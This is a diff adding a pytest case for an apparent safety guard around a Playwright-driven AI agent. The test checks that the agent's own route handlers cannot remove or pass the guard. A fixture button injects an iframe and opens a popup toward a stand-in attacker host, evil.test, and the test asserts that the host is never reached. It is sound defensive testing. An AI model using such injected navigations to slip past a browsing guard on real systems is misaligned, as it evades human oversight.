@@ -4,6 +4,7 @@ session's handler runs while the agent's thread is inside a Playwright call)."""
 from __future__ import annotations
 
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page, sync_playwright
@@ -67,3 +68,28 @@ def test_sync_frame_on_a_refused_host(sync_page: Page, site: LocalSite) -> None:
     assert _reached(site, "other.test", "sync-frame-twin")
     with pytest.raises(ActionBlocked):
         page.hover("body")
+
+
+def test_sync_routes_do_not_remove_or_pass_the_gate(sync_page: Page, site: LocalSite) -> None:
+    page = Guard(POLICIES, goal="Use the app.", approver=lambda _v, _s: True).wrap(sync_page)
+    page.goto("http://app.test/plain.html")
+    page.context.unroute_all()
+    seen: list[str] = []
+
+    def keep_going(route: Any) -> None:
+        seen.append(route.request.url)
+        route.continue_()
+
+    page.route("**/*", keep_going)
+    frame = "const f = document.createElement('iframe'); f.src = '{D}'; document.body.append(f)"
+    for name, script in (("frame", frame), ("popup", "window.open('{D}')")):
+        mark = f"sync-routes-{name}"
+        code = script.replace("{D}", f"http://evil.test/landing?c={mark}")
+        page.goto(_page(site, mark, f'<button id="t" type="button" onclick="{code}">Go</button>'))
+        page.click("#t")
+        page.wait_for_timeout(700)
+        assert _reached(site, "evil.test", mark) == []
+        with pytest.raises(ActionBlocked):
+            page.hover("body")
+    page.goto("http://other.test/landing?c=sync-routes-twin")
+    assert "http://other.test/landing?c=sync-routes-twin" in seen
